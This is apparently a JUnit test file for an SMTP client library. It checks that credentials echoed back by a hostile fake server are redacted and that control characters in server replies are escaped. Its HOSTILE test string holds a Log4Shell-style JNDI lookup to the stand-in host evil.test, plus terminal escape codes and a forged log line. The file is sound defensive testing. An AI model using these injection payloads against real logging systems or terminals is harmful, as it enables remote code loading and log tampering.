package org.postern.testkit.faults;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.postern.core.Mailer;
import org.postern.core.settings.TlsMode;
import org.postern.core.smtp.RecipientResult;
import org.postern.testkit.FakeSmtpServer;
import org.postern.testkit.FakeSmtpServerBuilder;
import org.postern.testkit.Reaction;
import org.postern.testkit.SmtpStep;

/** What a server makes us show: secrets that it echoes, and controls that it sends. */
class DisclosureTest {

  private static final String HOSTILE =
      "\u001b[2J\u001b[31m\u0007\u0008 ${jndi:ldap://evil.test/x} \u0085\u2028\rFAKE LOG LINE\u009b";

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  /** The secrets, bare and in every wrapping in which they go over the wire. */
  private static List<String> secrets() {
    return List.of(
        Login.PASSWORD,
        Login.FRESH,
        Login.STALE,
        base64(Login.PASSWORD),
        base64("\0" + Login.USER + "\0" + Login.PASSWORD),
        base64("user=" + Login.USER + "\u0001auth=Bearer " + Login.FRESH + "\u0001\u0001"));
  }

  private static FakeSmtpServerBuilder server(String mechanism) {
    FakeSmtpServerBuilder builder =
        FakeSmtpServer.builder()
            .startTls(Postman.CA.localhost())
            .user(Login.USER, "another password")
            .bearer((user, token) -> false);
    return builder.mechanisms(mechanism);
  }

  private static Postman sender(FakeSmtpServer server, String mechanism) {
    Login login = mechanism.contains("OAUTH") ? Login.staleToken() : Login.password();
    return Postman.to(server).tls(TlsMode.STARTTLS).login(login);
  }

  @ParameterizedTest
  @ValueSource(strings = {"PLAIN", "LOGIN", "CRAM-MD5", "SCRAM-SHA-256", "XOAUTH2", "OAUTHBEARER"})
  void secretThatTheServerEchoesIsShownNowhere(String mechanism) {
    UnaryOperator<String> echo =
        line -> {
          String sent = line.substring(line.lastIndexOf(' ') + 1);
          return "535-5.7.8 " + line + "\r\n535-5.7.8 " + sent + "\r\n535 5.7.8 " + decoded(sent);
        };
    try (FakeSmtpServer server = server(mechanism).start()) {
      server.at(SmtpStep.AUTH_RESPONSE).will(Reaction.replyTo(echo).then(Reaction.close()));
      if (mechanism.matches("PLAIN|X?OAUTH.*")) {
        server.at(SmtpStep.AUTH).will(Reaction.replyTo(echo));
      }
      RecipientResult result = sender(server, mechanism).send();

      assertNoSecret(result.toString());
      try (Mailer mailer = sender(server, mechanism).open()) {
        assertNoSecret(mailer.probe().toString());
      }
      RecordedLog.events().forEach(DisclosureTest::assertNoSecret);
    }
  }

  private static String decoded(String base64) {
    try {
      String text = new String(Base64.getDecoder().decode(base64), StandardCharsets.UTF_8);
      return text.replaceAll("\\p{Cntrl}", " ");
    } catch (IllegalArgumentException notBase64) {
      return base64;
    }
  }

  private static void assertNoSecret(String shown) {
    assertThat(secrets().stream().noneMatch(shown::contains)).as("no secret is shown").isTrue();
  }

  @Test
  void echoAtALaterStageIsRedactedToo() {
    try (FakeSmtpServer server =
        FakeSmtpServer.builder()
            .startTls(Postman.CA.localhost())
            .user(Login.USER, Login.PASSWORD)
            .mechanisms("PLAIN")
            .start()) {
      server
          .at(SmtpStep.MAIL)
          .reply(
              "550 5.7.1 you logged in with "
                  + base64("\0" + Login.USER + "\0" + Login.PASSWORD)
                  + " that is "
                  + Login.PASSWORD);
      assertNoSecret(sender(server, "PLAIN").send().toString());
      RecordedLog.events().forEach(DisclosureTest::assertNoSecret);
    }
  }

  @ParameterizedTest
  @EnumSource(
      value = SmtpStep.class,
      names = {"BANNER", "EHLO", "STARTTLS", "AUTH", "MAIL", "RCPT", "DATA", "FINAL_DOT"})
  void controlsInARefusalAreEscapedInResultAndLog(SmtpStep step) {
    controlsAreEscaped(step, "550-5.7.1 " + HOSTILE + "\r\n550 5.7.1 " + HOSTILE + "\r\n");
  }

  @ParameterizedTest
  @EnumSource(
      value = SmtpStep.class,
      names = {"BANNER", "EHLO", "STARTTLS", "MAIL", "RCPT", "DATA", "FINAL_DOT"})
  void controlsInGarbageAreEscapedInResultAndLog(SmtpStep step) {
    controlsAreEscaped(step, HOSTILE + "\r\n");
  }

  private static void controlsAreEscaped(SmtpStep step, String bytes) {
    int before = RecordedLog.events().size();
    try (FakeSmtpServer server =
        FakeSmtpServer.builder()
            .startTls(Postman.CA.localhost())
            .user(Login.USER, Login.PASSWORD)
            .start()) {
      server
          .at(step)
          .will(Reaction.raw(bytes.getBytes(StandardCharsets.UTF_8)).then(Reaction.close()));
      RecipientResult result = sender(server, "PLAIN").send();

      assertThat(result.toString()).matches("[^\\p{Cntrl}\u0080-\u009f\u2028\u2029]*");
      assertThat(RecordedLog.events().stream().skip(before))
          .filteredOn(event -> !event.contains("\tat "))
          .allMatch(event -> event.matches("[^\\p{Cntrl}\u0080-\u009f\u2028\u2029]*"));
    }
  }

  static Stream<String> challenges() {
    return Stream.of(
        "{\"status\":\"401\u001b[31m\u0007\",\"scope\":\"" + HOSTILE.replace("\r", " ") + "\"}",
        "\u0000\u0001\u0002",
        "not json " + HOSTILE);
  }

  @ParameterizedTest
  @MethodSource("challenges")
  void controlsInAChallengeAreEscaped(String challenge) {
    try (FakeSmtpServer server =
        FakeSmtpServer.builder()
            .startTls(Postman.CA.localhost())
            .bearer((user, token) -> false)
            .bearerChallenge(challenge)
            .start()) {
      RecipientResult result = sender(server, "XOAUTH2").send();

      assertThat(result.toString()).matches("[^\\p{Cntrl}\u0080-\u009f\u2028\u2029]*");
    }
  }
}
